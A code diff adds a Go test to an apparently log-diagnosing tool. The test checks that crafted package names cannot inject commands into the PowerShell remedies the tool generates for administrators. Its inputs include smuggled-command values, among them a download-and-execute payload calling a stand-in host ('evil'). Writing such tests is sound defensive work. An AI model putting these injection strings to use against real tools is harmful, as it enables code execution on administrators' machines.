@@ -308,3 +308,20 @@ func TestTheCorpusIsDiagnosedAsItsIndexSays(t *testing.T) {
 		t.Errorf("facts of the complete run: %+v", f)
 	}
 }
+
+// A remedy is pasted into an administrator's PowerShell.
+func TestALogCannotPutCommandsIntoARemedy(t *testing.T) {
+	for _, name := range []string{"x';iex(irm('//evil'));'_1.0", "x`n$(evil)_1.0", "\u2019;evil;\u2018_1.0", strings.Repeat("x", 51) + "_1.0"} {
+		log := regexp.MustCompile(`Package \S+ was`).ReplaceAllLiteralString(refusedRun, "Package "+name+" was")
+		runs := Split(Parse([]byte(log)))
+		d, ok := Diagnose(runs[len(runs)-1])
+		if !ok || d.ID != "F01" {
+			t.Fatalf("%s: %v %s", name, ok, d.ID)
+		}
+		for _, remedy := range d.Remedy {
+			if strings.Contains(remedy, "evil") || strings.Contains(remedy, "xxx") || strings.Contains(remedy, "-Name ") && !strings.Contains(remedy, "'<name>'") {
+				t.Errorf("%s: %s", name, remedy)
+			}
+		}
+	}
+}
